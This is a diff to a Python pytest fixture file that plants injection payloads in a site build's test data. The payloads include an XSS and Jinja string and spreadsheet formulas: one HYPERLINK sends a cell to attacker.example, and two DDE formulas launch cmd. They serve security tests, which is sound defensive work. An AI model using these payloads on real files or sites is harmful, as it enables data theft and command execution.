@@ -128,11 +128,17 @@ PAYLOAD = "<img src=x onerror=window.__pwned=1></script>{{ 7*7 }}[go](javascript
 """Markup, a script end tag, Jinja and a javascript: link, planted in the variant build's BSF data (test_security)."""
 SERVICE = "Egress Gateway " + PAYLOAD
 """BSF's Egress Gateway as the variant build names it everywhere in data/bsf (bsf-3-3 has it in Table 3-25)."""
+HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+DDE = "=cmd|' /C calc'!A0"
+AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+"""Spreadsheet formulas (OWASP "CSV Injection"), the notes of the first three rows of the variant build's
+data/bsf/resources.csv (test_csv_injection)."""
 
 
 def _variant_data(folder: Path) -> Path:
     """data/ plus the sixth guide (SIXTH_GUIDE), with PAYLOAD planted in BSF's data: "Egress Gateway" renamed
-    SERVICE in every data/bsf file, and bsf-3-3's title, short title and notes ending in it."""
+    SERVICE in every data/bsf file, and bsf-3-3's title, short title and notes ending in it; and the notes of the
+    first three rows of data/bsf/resources.csv the formulas HYPERLINK, DDE and AT_SUM."""
     d = copy_data(folder)
     shutil.copytree(SIXTH_GUIDE / "xyz", d / "xyz")
     with (d / "sources.yaml").open("a", encoding="utf-8") as f:
@@ -159,16 +165,19 @@ def _variant_data(folder: Path) -> Path:
             s["short_title"] += " " + PAYLOAD
             s["notes"] = [PAYLOAD]
     p.write_text(yaml.safe_dump(items, allow_unicode=True, sort_keys=False))
+    for row, formula in enumerate((HYPERLINK, DDE, AT_SUM)):
+        rewrite_csv_cell(d / "bsf" / "resources.csv", row, "note", formula)
     return d
 
 
 @pytest.fixture(scope="session")
 def variant_site(tmp_path_factory, worker_id) -> Path:
-    """One build of what the default build is not, for three test files, once per run (``_shared_build``): the data
-    of ``_variant_data`` (a sixth guide for test_sixth_guide, markup in BSF's data for test_security), built for
-    PUBLIC_URL (ATLAS_SITE_URL; test_hosting). The three do not meet: the guide is a folder and a sources.yaml entry of
-    its own, the markup is in data/bsf only, and the address changes only the canonical links, the sitemap and the
-    404 page. One build instead of three, each of which took about a full build's time (15 to 30 s)."""
+    """One build of what the default build is not, for four test files, once per run (``_shared_build``): the data
+    of ``_variant_data`` (a sixth guide for test_sixth_guide, markup in BSF's data for test_security, formulas in BSF's
+    notes for test_csv_injection), built for PUBLIC_URL (ATLAS_SITE_URL; test_hosting). They do not meet: the guide
+    is a folder and a sources.yaml entry of its own, the markup and the formulas are in data/bsf only (names and
+    titles; notes), and the address changes only the canonical links, the sitemap and the 404 page. One build
+    instead of four, each of which took a full build's time or most of it (10 to 30 s)."""
     return _shared_build(tmp_path_factory, worker_id, "variant", _variant_data, dict(os.environ, ATLAS_SITE_URL=PUBLIC_URL))
 
 
